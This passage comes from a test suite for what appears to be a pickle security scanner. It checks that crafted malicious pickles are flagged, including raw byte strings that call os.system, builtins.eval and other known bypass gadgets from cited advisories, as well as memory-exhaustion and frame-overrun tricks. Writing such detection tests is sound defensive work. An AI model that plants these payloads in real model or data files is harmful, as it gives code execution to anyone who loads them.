    finding = assert_flags(report, "pkgutil.resolve_name")
    assert finding.evidence["args"] == "('os:system',)"


def test_idlelib_runcode() -> None:
    """GHSA-m869-42cg-3xwr: ``idlelib.run.Executive.runcode``."""
    assert_flags(analyse_pickle(idlelib_runcode(Path("/tmp/x"))), "idlelib.run.Executive.runcode")


def test_importlib_and_getattr() -> None:
    """``importlib.import_module('os')`` then ``getattr``: the resolver class of bypass in
    https://github.com/mmaitre314/picklescan/issues/66."""
    report = analyse_pickle(importlib_import_module(Path("/tmp/x")))
    assert_flags(report, "importlib.import_module")
    assert_flags(report, "builtins.getattr")


def test_marshal_and_function_type() -> None:
    """``types.FunctionType(marshal.loads(...), {})()``: https://github.com/mmaitre314/picklescan/pull/74."""
    report = analyse_pickle(marshal_function(Path("/tmp/x")))
    assert_flags(report, "marshal.loads")
    assert_flags(report, "types.FunctionType")


def test_functools_partial_wrapper() -> None:
    """``functools.partial(os.system, cmd)()`` hides the call site; the wrapper is HIGH and the
    wrapped callable CRITICAL (https://github.com/trailofbits/fickling/pull/210)."""
    report = analyse_pickle(functools_partial(Path("/tmp/x")))
    assert_flags(report, "os.system")
    assert first(report, "functools.partial").severity is Severity.HIGH


def test_numpy_f2py() -> None:
    """``numpy.f2py.crackfortran.getlincoef`` evaluates an expression
    (https://github.com/trailofbits/fickling/pull/210)."""
    assert_flags(analyse_pickle(numpy_f2py(Path("/tmp/x"))), "numpy.f2py.crackfortran.getlincoef")


def test_mailcap_findmatch() -> None:
    """``mailcap.findmatch`` runs a mailcap entry's test command:
    https://github.com/mmaitre314/picklescan/pull/69."""
    assert_flags(analyse_pickle(mailcap_findmatch(Path("/tmp/x"))), "mailcap.findmatch")


def test_file_writing_helpers() -> None:
    """``distutils.file_util.write_file`` and ``_io.FileIO`` write files (CVE-2025-10155 and
    CVE-2025-10156 as summarised in https://github.com/trailofbits/fickling/pull/210)."""
    assert_flags(
        analyse_pickle(file_write_helpers(Path("/tmp/x"))), "distutils.file_util.write_file"
    )
    assert_flags(analyse_pickle(io_fileio(Path("/tmp/x"))), "_io.FileIO")


def test_network_modules() -> None:
    """GHSA-hgrh-qx5j-jfwx (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-hgrh-qx5j-jfwx)."""
    finding = assert_flags(
        analyse_pickle(network_urlopen(Path("/tmp/x"))), "urllib.request.urlopen"
    )
    assert finding.evidence["rule"] == "network"


def test_python2_module_names() -> None:
    """``__builtin__.eval`` in a protocol 0 pickle is ``builtins.eval`` after the unpickler's
    renaming (picklescan's tests list ``__builtin__`` getattr/apply:
    https://github.com/mmaitre314/picklescan/pull/29)."""
    report = analyse_pickle(builtin_py2_name(Path("/tmp/x")))
    assert_flags(report, "builtins.eval")
    renamed = p4(call(sg("__builtin__", "eval"), "1"))  # protocol 4: no renaming, still denied
    assert analyse_pickle(renamed).max_severity is Severity.CRITICAL


def test_dotted_name_through_a_reexported_module() -> None:
    """``find_class('posixpath', 'os.system')`` returns ``os.system`` (protocol 4 resolves dotted
    names attribute by attribute). Defence in depth; no advisory found."""
    finding = assert_flags(analyse_pickle(dotted_reexport(Path("/tmp/x"))), "posixpath.os.system")
    assert finding.evidence["rule"] == "process-execution"


def test_dunder_attribute_walk_in_a_name() -> None:
    """A dotted name through ``__globals__`` reaches any module from an allowed class."""
    report = analyse_pickle(dunder_attribute_walk(Path("/tmp/x")))
    finding = assert_flags(report, "collections.OrderedDict.__init__.__globals__")
    assert finding.evidence["rule"] == "attribute-walk"


# --------------------------------------------------------------------------------------------
# Canary: nothing is ever imported or run


CANARY_MODULE = "phalanx_canary_mod"
INTENTIONALLY_MALFORMED = {"memo_miss_after_payload", "truncated_stream"}


def test_canary_nothing_is_imported_or_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "pwned"
    module_dir = tmp_path / "modules"
    module_dir.mkdir()
    # Importing this module would create the canary file.
    (module_dir / f"{CANARY_MODULE}.py").write_text(
        f"open({str(target)!r}, 'w').close()\n\ndef helper(*args):\n    open({str(target)!r}, 'w').close()\n"
    )
    monkeypatch.syspath_prepend(str(module_dir))
    before = set(sys.modules)
    named: set[str] = {CANARY_MODULE}
    for name, build in sorted(PAYLOADS.items()):
        report = analyse_pickle(build(target), origin=name)
        assert not report.allows_unpickling(), name
        # every payload is a well-formed pickle unless malformation is its technique
        assert report.complete or name in INTENTIONALLY_MALFORMED, name
        named.update(g.module for g in report.globals)
    assert not target.exists()
    newly_imported = (set(sys.modules) - before) & named
    assert newly_imported == set()
    assert CANARY_MODULE not in sys.modules


# --------------------------------------------------------------------------------------------
# Policy data


def test_bundled_policy_is_valid() -> None:
    policy = load_policy()
    assert set(policy.ecosystems) >= {"python", "numpy", "torch", "sklearn", "joblib"}
    assert all(rule.sources for rule in policy.deny)
    assert policy.is_loader("pickle", "loads")


@pytest.mark.parametrize(
    ("module", "name", "verdict"),
    [
        ("sklearn.linear_model._logistic", "LogisticRegression", Verdict.ALLOWED),
        ("sklearn.svm._classes", "SVC", Verdict.ALLOWED),
        ("sklearn.tree._tree", "Tree", Verdict.ALLOWED),
        ("sklearn.ensemble._hist_gradient_boosting.binning", "_BinMapper", Verdict.ALLOWED),
        ("sklearn.linear_model._logistic", "_check_solver", Verdict.UNKNOWN),  # a function
        ("sklearn.tree._classes", "ABCMeta", Verdict.UNKNOWN),  # excluded re-export
        ("sklearn.utils._testing", "TempMemmap", Verdict.UNKNOWN),  # module not listed
        ("sklearn.datasets", "fetch_openml", Verdict.UNKNOWN),
        ("numpy.f2py.crackfortran", "getlincoef", Verdict.DENIED),
        ("os", "path.join", Verdict.DENIED),
        ("posixpath", "os.system", Verdict.DENIED),
        ("builtins", "set", Verdict.ALLOWED),
        ("builtins", "getattr", Verdict.DENIED),
        ("torch.nn.modules.linear", "Linear", Verdict.ALLOWED),
        ("torch.nn.modules.linear", "F", Verdict.UNKNOWN),  # torch.nn.functional, a module
        ("torch.nn.modules.module", "_VF", Verdict.UNKNOWN),
        ("torch.nn.modules.linear", "Linear.__init__.__globals__", Verdict.DENIED),
        ("copyreg", "add_extension", Verdict.DENIED),
    ],
)
def test_policy_verdicts(module: str, name: str, verdict: Verdict) -> None:
    policy = load_policy()
    ecosystems = policy.resolve_ecosystems(None)
    assert policy.judge(module, name, ecosystems).verdict is verdict


def test_policy_remembers_verdicts_per_ecosystem_choice() -> None:
    policy = load_policy()
    every = policy.resolve_ecosystems(None)
    python = policy.resolve_ecosystems(["python"])
    cls = ("sklearn.linear_model._logistic", "LogisticRegression")
    assert policy.judge(*cls, python).verdict is Verdict.UNKNOWN
    assert policy.judge(*cls, every).verdict is Verdict.ALLOWED
    assert policy.judge(*cls, python).verdict is Verdict.UNKNOWN
    assert policy.judge(*cls, every) is policy.judge(*cls, list(every))


def test_policy_memory_is_bounded() -> None:
    from phalanx.supplychain.scan import policy as policy_module

    policy = load_policy()
    ecosystems = policy.resolve_ecosystems(None)
    for i in range(policy_module._MAX_JUDGED + 10):
        assert policy.judge("evil", f"f{i}", ecosystems).verdict is Verdict.UNKNOWN
    assert len(policy._judged) <= policy_module._MAX_JUDGED
    assert policy.judge("os", "system", ecosystems).verdict is Verdict.DENIED


def _restore_only_policy() -> Any:
    return parse_policy({
        "version": 1,
        "ecosystems": {
            "python": {"globals": {"builtins": ["set"]}},
            "layers": {"classes": [{"modules": ["torch.nn.modules"], "construct": False}]},
            "sklearn": {"classes": [{"modules": ["sklearn.tree"]}]},
        },
        "deny": [],
    })


def test_a_class_rule_with_construct_false_allows_the_name_but_not_a_call() -> None:
    policy = _restore_only_policy()
    every = policy.resolve_ecosystems(None)
    layer = policy.judge("torch.nn.modules.linear", "Linear", every)
    assert layer.verdict is Verdict.ALLOWED and layer.callable is False
    tree = policy.judge("sklearn.tree._tree", "Tree", every)
    assert tree.verdict is Verdict.ALLOWED and tree.callable is True
    # The bundled policy: torch.nn layers are restore-only, sklearn's Cython types (which
    # pickle themselves as Tree(n_features, n_classes, n_outputs)) and plain globals are not.
    bundled = load_policy()
    every = bundled.resolve_ecosystems(None)
    assert bundled.judge("torch.nn.modules.linear", "Linear", every).callable is False
    assert bundled.judge("sklearn.tree._tree", "Tree", every).callable is True
    assert bundled.judge("collections", "OrderedDict", every).callable is True
    with pytest.raises(DataFormatError, match=r"construct must be true or false"):
        parse_policy({"version": 1, "ecosystems": {"python": {"classes": [
            {"modules": ["x"], "construct": "no"}]}}, "deny": []})


_LINEAR = b"ctorch.nn.modules.linear\nLinear\n"
_SIZE = b"J" + (100_000).to_bytes(4, "little")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("REDUCE", b"\x80\x02" + _LINEAR + _SIZE + _SIZE + b"\x86R."),
        ("INST", b"(I100000\nI100000\nitorch.nn.modules.linear\nLinear\n."),
        ("OBJ", b"\x80\x02(" + _LINEAR + _SIZE + _SIZE + b"o."),
        ("copyreg._reconstructor", b"ccopyreg\n_reconstructor\n(" + _LINEAR + _LINEAR
         + b"I100000\ntR."),
    ],
)
def test_calling_a_restore_only_class_is_a_finding(name: str, data: bytes) -> None:
    analysis = analyse_pickle(data)
    (finding,) = analysis.findings
    assert finding.severity is Severity.MEDIUM
    assert finding.evidence["kind"] == "constructor-call"
    assert finding.evidence["callable"] == "torch.nn.modules.linear.Linear"
    assert "__init__" in finding.detail


def test_restoring_a_layer_as_torch_save_does_is_clean() -> None:
    """NEWOBJ (cls.__new__) + BUILD, and copyreg._reconstructor with object as the base,
    never run the layer's __init__."""
    newobj = b"\x80\x02" + _LINEAR + b")\x81}b."
    reconstructor = (b"ccopyreg\n_reconstructor\n(" + _LINEAR + b"c__builtin__\nobject\nNtR"
                     b"(dp0\nb.")
    for data in (newobj, reconstructor):
        analysis = analyse_pickle(data)
        assert analysis.max_severity is None, [f.title for f in analysis.findings]
    # A class rule without construct: false may be called (sklearn's Cython types do).
    tree = b"\x80\x02csklearn.tree._tree\nTree\nK\x04K\x01\x86R."
    assert analyse_pickle(tree).max_severity is None


def _builtin_call(name: bytes, *args: bytes) -> bytes:
    return b"\x80\x02c__builtin__\n" + name + b"\n(" + b"".join(args) + b"tR"


def _range(stop: int) -> bytes:
    return _builtin_call(b"range", b"\x8a\x08" + stop.to_bytes(8, "little"))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        # bytearray(n) allocates and zeroes n bytes.
        ("bytearray-size", _builtin_call(b"bytearray", b"\x8a\x05" + (1 << 34).to_bytes(5, "little")) + b"."),
        # bytes(n) is lazy, but a copy of it is not: bytearray(bytes(n)).
        ("copy-of-lazy-bytes", _builtin_call(b"bytearray", _builtin_call(
            b"bytes", b"\x8a\x05" + (1 << 34).to_bytes(5, "little"))[2:]) + b"."),
        # list(range(n)) materialises n integers.
        ("list-range", _builtin_call(b"list", _range(1 << 32)[2:]) + b"."),
        # Many small requests add up: 300 x bytearray(1 MiB), each kept in a list.
        ("many-small", b"\x80\x02]("
         + _builtin_call(b"bytearray", b"J" + (1 << 20).to_bytes(4, "little"))[2:] * 300
         + b"e."),
    ],
)
def test_allocation_sized_by_the_pickle_is_a_finding(name: str, data: bytes) -> None:
    """A pickle of a few bytes that makes the loader allocate gigabytes (an allowlisted
    builtin given a size or a range to materialise) is memory exhaustion on load, like a far
    memo index. Pickling never writes these calls: bytes and bytearray are rebuilt from their
    contents."""
    import pickletools

    pickletools.dis(data, out=io.StringIO())  # each is a well-formed pickle
    analysis = analyse_pickle(data)
    kinds = {f.evidence["kind"]: f for f in analysis.findings}
    assert "allocation" in kinds, [f.title for f in analysis.findings]
    finding = kinds["allocation"]
    assert finding.severity is Severity.MEDIUM
    assert finding.evidence["requested_bytes"] >= 1 << 28


def test_pickled_bytes_sets_and_ranges_are_not_allocation_findings() -> None:
    values = [bytearray(b"abc" * 1000), b"xyz", set(range(100)), frozenset({1, 2}),
              range(10**12), bytearray(), [range(5)] * 10]
    for protocol in range(6):
        analysis = analyse_pickle(pickle.dumps(values, protocol=protocol))
        assert analysis.max_severity is None, (protocol, [f.title for f in analysis.findings])
    # A small allocation is not worth a finding, and bytes(n) takes no memory until read
    # (calloc maps untouched zero pages).
    small = _builtin_call(b"bytearray", b"K\x10") + b"."
    lazy = _builtin_call(b"bytes", b"\x8a\x05" + (1 << 34).to_bytes(5, "little")) + b"."
    for data in (small, lazy):
        assert analyse_pickle(data).max_severity is None


def test_policy_lists_every_problem() -> None:
    broken = {
        "version": 2,
        "ecosystems": {"numpy": {"globals": {"numpy": "ndarray"}, "colour": "blue"}},
        "deny": [{"id": "x", "reason": "", "modules": ["os"]}],
    }
    with pytest.raises(DataFormatError) as caught:
        parse_policy(broken)
    message = str(caught.value)
    for problem in (
        "version must be 1",
        "unknown key 'colour'",
        "numpy must be a list",
        "reason",
        "source",
        "'python'",
    ):
        assert problem in message


# --------------------------------------------------------------------------------------------
# Limits and streaming


class CountingFile(io.RawIOBase):
    """A file wrapper that counts the bytes handed out."""

    def __init__(self, raw: io.BufferedReader) -> None:
        self.raw = raw
        self.bytes_read = 0
        self.calls = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def tell(self) -> int:
        return self.raw.tell()

    def seek(self, offset: int, whence: int = io.SEEK_SET) -> int:
        return self.raw.seek(offset, whence)

    def read(self, n: int = -1) -> bytes:
        data = self.raw.read(n)
        self.bytes_read += len(data)
        self.calls += 1
        return data

    def readline(self, size: int | None = -1) -> bytes:
        data = self.raw.readline(size if size is not None else -1)
        self.bytes_read += len(data)
        self.calls += 1
        return data


@pytest.mark.parametrize("head", [b"c", b"\x80\x02c", b"S'", b"I"])
def test_a_long_text_argument_is_read_in_one_go(tmp_path: Path, head: bytes) -> None:
    # GLOBAL, STRING and INT arguments are lines, bounded at max_const_bytes; one that long
    # must not be fetched piecemeal (rescanning and recopying the line at every step).
    path = tmp_path / "long.pkl"
    path.write_bytes(head + b"a" * (4 << 20) + b"\nb\n.")
    with open(path, "rb") as raw:
        counting = CountingFile(raw)
        report = analyse_pickle(counting, limits=PickleLimits(max_const_bytes=8 << 20))
    assert report.findings  # an unknown import or a malformed stream, never clean
    assert counting.calls < 20, counting.calls


def test_large_constants_are_skipped_not_read(tmp_path: Path) -> None:
    blob = b"\x00" * (8 << 20)
    path = tmp_path / "big.pkl"
    path.write_bytes(b"\x80\x04\x8e" + struct.pack("<Q", len(blob)) + blob + b"\x85.")
    limits = PickleLimits(max_const_bytes=1 << 20)
    with open(path, "rb") as raw:
        counting = CountingFile(raw)
        report = analyse_pickle(counting, limits=limits)
    assert report.findings == []
    assert report.complete
    assert counting.bytes_read < 64 * 1024  # the reader's read-ahead, not the 8 MiB constant
    assert scan_pickle_file(path, limits=limits).findings == []


def test_large_numpy_array_file_scans_with_small_limits(tmp_path: Path) -> None:
    np = pytest.importorskip("numpy")
    path = tmp_path / "array.pkl"
    path.write_bytes(pickle.dumps(np.ones((512, 512)), protocol=5))
    report = scan_pickle_file(
        path, ecosystems=("numpy",), limits=PickleLimits(max_const_bytes=1024)
    )
    assert report.allows_unpickling()


def test_opcode_and_stack_limits_stop_the_analysis() -> None:
    data = pickle.dumps(list(range(1000)), protocol=2)
    report = analyse_pickle(data, limits=PickleLimits(max_opcodes=50))
    assert report.max_severity is Severity.MEDIUM
    assert any(f.title == "Pickle analysis stopped at a resource limit" for f in report.findings)
    assert not report.complete
    deep = analyse_pickle(
        pickle.dumps(tuple(range(100)), protocol=2), limits=PickleLimits(max_stack=10)
    )
    assert any(f.title == "Pickle analysis stopped at a resource limit" for f in deep.findings)


def test_long_call_chains_give_one_finding_each() -> None:
    report = analyse_pickle(p4(sg("mymod", "f"), b")R" * 20000))
    assert report.complete
    assert [f.title for f in report.findings] == [
        "Unknown import in pickle: mymod.f",
        "Pickle calls a computed object",
    ]
    assert report.findings[1].evidence["occurrences"] == 19999


def test_decompression_for_nested_pickles_is_bounded() -> None:
    import zlib

    limits = PickleLimits(max_const_bytes=1 << 20)
    bombs = [
        call(
            sg("pickle", "loads"),
            Raw(call(sg("zlib", "decompress"), zlib.compress(b"N." + bytes([i]) * (1 << 20)))),
        )
        for i in range(20)
    ]
    start = time.perf_counter()
    report = analyse_pickle(p4(*(Raw(b + b"0") for b in bombs), b"N"), limits=limits)
    assert time.perf_counter() - start < 5
    assert_flags(report, "pickle.loads")
    assert any(f.title == "Nested pickle could not be analysed" for f in report.findings)


def test_computed_callable_passed_to_an_allowed_helper_is_high() -> None:
    """``collections.defaultdict(<result of ...>)``: the allowed helper would call a value the
    policy never judged (torch.load(weights_only=True) also requires imports here)."""
    data = p4(call(sg("collections", "defaultdict"), Raw(call(sg("collections", "OrderedDict")))))
    report = analyse_pickle(data)
    assert report.max_severity is Severity.HIGH
    assert any(f.title.startswith("Pickle passes a computed object") for f in report.findings)


def test_unexpected_codec_is_medium() -> None:
    report = analyse_pickle(reduce4("_codecs", "encode", "abc", "rot13"))
    assert [f.title for f in report.findings] == ["Pickle encodes with an unexpected codec"]


def test_container_tracking_is_bounded() -> None:
    data = reduce4("os", "system", Raw(b"]" + b"(" + b"K\x01" * 5000 + b"e"))
    report = analyse_pickle(data, limits=PickleLimits(max_container_items=10))
    assert "…+" in first(report, "os.system").evidence["args"]


# --------------------------------------------------------------------------------------------
# Property tests: no input makes the analyser raise or stall


def _assert_handled(data: bytes) -> None:
    start = time.perf_counter()
    report = analyse_pickle(data)
    assert time.perf_counter() - start < 2.0
    assert isinstance(report, PickleReport)
    for finding in report.findings:
        assert "internal analyser error" not in str(finding.evidence.get("error", ""))
        json.dumps(finding.to_dict())


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_random_bytes_never_raise(data: bytes) -> None:
    _assert_handled(data)


_CORPUS = [
    pickle.dumps(
        {"a": [1, 2.0, b"x", {1}, frozenset({2}), (1, 2, 3, 4), bytearray(b"z")]}, protocol=p
    )
    for p in range(pickle.HIGHEST_PROTOCOL + 1)
] + [build(Path("/tmp/x")) for build in PAYLOADS.values()]

_EDITS = st.lists(
    st.tuples(
        st.sampled_from(["flip", "insert", "delete", "truncate"]),
        st.integers(min_value=0, max_value=1 << 16),
        st.integers(min_value=0, max_value=255),
    ),
    max_size=8,
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_CORPUS), _EDITS)
def test_mutated_pickles_never_raise(base: bytes, edits: list[tuple[str, int, int]]) -> None:
    data = bytearray(base)
    for kind, where, value in edits:
        i = where % (len(data) + 1)
        if kind == "flip" and data:
            data[i % len(data)] = value
        elif kind == "insert":
            data.insert(i, value)
        elif kind == "delete" and data:
            del data[i % len(data)]
        elif kind == "truncate":
            del data[i:]
    _assert_handled(bytes(data))


def test_invalid_escapes_in_a_protocol_0_string_warn_nobody() -> None:
    # pickletools decodes STRING lines with codecs.escape_decode, which warns about '\q'.
    data = b"S'a\\q'\np0\n."
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        report = analyse_pickle(data)
        # popping an empty stack fails the load; the analyser reads on to the STOP (_lint)
        lint = analyse_pickle(b"0" + data)
    assert report.findings == [] and report.complete
    assert [f.evidence["kind"] for f in lint.findings] == ["malformed"]


def test_every_opcode_has_a_handler() -> None:
    # The table maps pickletools' opcodes to handlers by name (shared ones through
    # _SHARED_HANDLERS): a misspelt entry would leave an opcode "not supported" and turn
    # every pickle that uses it into a malformed-stream finding.
    from phalanx.supplychain.scan import pickle_vm

    table = pickle_vm._Machine._table()
    assert set(table) == set(pickletools.opcodes)
    unsupported = [op.name for op, handler in table.items()
                   if handler is pickle_vm._Machine.op_unsupported]
    assert unsupported == []
    assert set(pickle_vm._SHARED_HANDLERS) <= {op.name for op in pickletools.opcodes}


def test_the_build_under_test_is_the_one_expected() -> None:
    # `make test-compiled` runs this suite against the compiled build with
    # PHALANX_EXPECT_COMPILED=1: a build that fell back to the source must not pass as tested.
    import ast
    import importlib

    from phalanx.supplychain.scan import pickle_vm

    expected = os.environ.get("PHALANX_EXPECT_COMPILED") == "1"
    assert pickle_vm.COMPILED is expected
    setup = ast.parse((Path(__file__).parents[2] / "setup.py").read_text(encoding="utf-8"))
    listed = next(ast.literal_eval(node.value) for node in setup.body
                  if isinstance(node, ast.Assign)
                  and getattr(node.targets[0], "id", "") == "COMPILED_MODULES")
    assert "src/phalanx/supplychain/scan/pickle_vm.py" in listed
    for path in listed:
        name = path.removeprefix("src/").removesuffix(".py").replace("/", ".")
        module_file = importlib.import_module(name).__file__ or ""
        assert module_file.endswith((".py", ".pyc")) is not expected, (name, module_file)


def test_a_frame_that_runs_past_its_stop_hides_nothing() -> None:
    """A protocol 4 frame that runs past its pickle's STOP.

    Both of Python's unpicklers read a frame whole, so a second ``load()`` from the same
    stream starts at the frame's end, not after the STOP. Found by fuzzing: read on from the
    STOP, the second pickle is the string ``"touch ...cbuiltins\\neval\\n..."``; from the
    frame's end, where the loader starts, it imports ``builtins.eval``.
    """
    from phalanx.testing.pickle_oracle import check_pickle_analysis

    data = (b"\x80\x04\x95/\x00\x00\x00\x00\x00\x00\x00}\x94(u.\x80\x04\x95D\x00\x00\x00\x00"
            b"\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x8c,touch /tmp/x.pwncbuiltins\neval\n"
            b"never-created\x94.")
    report = analyse_pickle(data)
    assert_flags(report, "builtins.eval")
    overrun = [f for f in report.findings if f.evidence.get("kind") == "frame-overrun"]
    assert len(overrun) == 1 and overrun[0].severity is Severity.MEDIUM
    assert overrun[0].evidence["offset"] == 16 and overrun[0].evidence["frame_end"] == 58
    check_pickle_analysis(data)  # the differential oracle agrees


def test_frames_that_end_at_their_stop_are_fine() -> None:
    # What pickle.dump writes: the last frame ends right after the STOP, pickle after pickle.
    data = b"".join(pickle.dumps({"layer": i, "w": [0.5] * 50}, protocol=p)
                    for i, p in enumerate((4, 5, 4)))
    report = analyse_pickle(data)
    assert report.pickles == 3
    assert report.findings == []
    assert report.end_offset == len(data)


def test_the_end_of_a_stream_is_the_end_of_its_last_frame() -> None:
    # PyTorch's legacy format reads its storages from where the unpickler left the file:
    # after the whole frame, not after the STOP.
    first = b"\x80\x04\x95\x06\x00\x00\x00\x00\x00\x00\x00}.XXXX"
    report = analyse_pickle(first + b"tensor bytes", max_pickles=1)
    assert report.end_offset == len(first)
    assert [f.evidence["kind"] for f in report.findings] == ["frame-overrun"]


def test_a_frame_inside_a_longer_frame_leaves_the_stream_at_the_longer_ones_end() -> None:
    # The C unpickler holds the outer frame's bytes when it meets the inner FRAME, so a second
    # load() starts at the outer frame's end, as the real unpickler shows here.
    inner = b"\x95\x01\x00\x00\x00\x00\x00\x00\x00}"  # FRAME 1: EMPTY_DICT
    outer_body = inner + b".XXXXXXXX"  # STOP, then bytes the outer frame holds
    first = b"\x80\x04\x95" + struct.pack("<Q", len(outer_body)) + outer_body
    second = pickle.dumps([1, 2], protocol=4)
    stream = io.BytesIO(first + second)
    assert pickle.load(stream) == {} and stream.tell() == len(first)
    assert pickle.load(stream) == [1, 2]
    report = analyse_pickle(first + second)
    assert report.pickles == 2
    assert [f.evidence["kind"] for f in report.findings] == ["frame-overrun"]
    assert report.findings[0].evidence["frame_end"] == len(first)


def test_a_frame_longer_than_the_stream_does_not_hide_what_follows_its_stop() -> None:
    # Found by fuzzing: the C unpickler fails at such a FRAME and Python's reads on to the end
    # of the stream, so no loader starts a second pickle at the frame's end; the bytes after
    # the STOP are analysed as they stand rather than skipped.
    data = b"\x80\x04\x95" + struct.pack("<Q", 1000) + b"}." + reduce0("os", "system", "id")
    report = analyse_pickle(data)
    assert_flags(report, "os.system")
    overrun = [f for f in report.findings if f.evidence.get("kind") == "frame-overrun"]
    assert len(overrun) == 1 and "stream ends before the frame does" in overrun[0].detail


def test_an_opcode_across_the_end_of_its_frame_is_malformed() -> None:
    # Found by fuzzing: the frame ends inside GLOBAL's name line "_reconstructor\n". Read
    # across the boundary the import is copyreg._reconstructor (allowed); the C unpickler
    # drops "_recons" and imports copyreg.tructor, Python's fails.
    from phalanx.testing.pickle_oracle import check_pickle_analysis

    body = b"}\x94(\x8c\x06shared\x94]\x94(ccopyreg\n_recons"
    data = (b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
            + b"tructor\nK\x01K\x02K\x03es\x8c\x01b\x94h\x04u.")
    report = analyse_pickle(data)
    assert not report.allows_unpickling()
    malformed = [f for f in report.findings if f.evidence.get("kind") == "malformed"]
    assert malformed and "runs across the end of its frame" in malformed[0].detail
    assert malformed[0].evidence["offset"] == data.index(b"ccopyreg")
    check_pickle_analysis(data)


def test_frames_pickle_dump_writes_are_not_split() -> None:
    # Large objects span many frames (64 KiB each); every frame ends at an opcode boundary.
    data = pickle.dumps({f"k{i}": f"{i:06d}" * 50 for i in range(2000)}, protocol=5)
    assert sum(op.name == "FRAME" for op, _, _ in pickletools.genops(data)) >= 5
    assert analyse_pickle(data).findings == []


@pytest.mark.parametrize("opcode", [b"c", b"i"])
@pytest.mark.parametrize(("inside", "outside", "c_reads"), [
    (b"xx", b"os\nsystem\n", "os.system"),  # the frame ends inside the module line
    (b"builtins\nxx", b"eval\n", "builtins.eval"),  # inside the name line
])
def test_an_import_split_by_the_end_of_its_frame_is_judged_as_the_c_unpickler_reads_it(
        opcode: bytes, inside: bytes, outside: bytes, c_reads: str) -> None:
    # Read across the boundary the import is "xxos.system" or "builtins.xxeval"; the C
    # unpickler drops the frame's last bytes and reads the rest of the line from after it.
    body = (b"(" if opcode == b"i" else b"") + opcode + inside
    data = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + outside + b"."
    asked: list[str] = []

    class Recorder(pickle.Unpickler):  # the C unpickler; imports recorded, none performed
        def find_class(self, module: str, name: str) -> Any:
            asked.append(f"{module}.{name}")
            raise pickle.UnpicklingError("refused")

    with pytest.raises(pickle.UnpicklingError):
        Recorder(io.BytesIO(data)).load()
    assert asked == [c_reads]
    report = analyse_pickle(data)
    assert_flags(report, c_reads)
    assert any("runs across the end of its frame" in f.detail for f in report.findings)


def test_a_frame_longer_than_a_stream_of_unknown_size_does_not_hide_what_follows() -> None:
    # The same, read from a stream that cannot seek (a decompressor): its size is not known
    # up front, so the frame's span is read ahead to tell whether the stream holds it.
    data = b"\x80\x04\x95" + struct.pack("<Q", 1000) + b"}." + reduce0("os", "system", "id")
    report = analyse_pickle(Unseekable(data))
    assert_flags(report, "os.system")
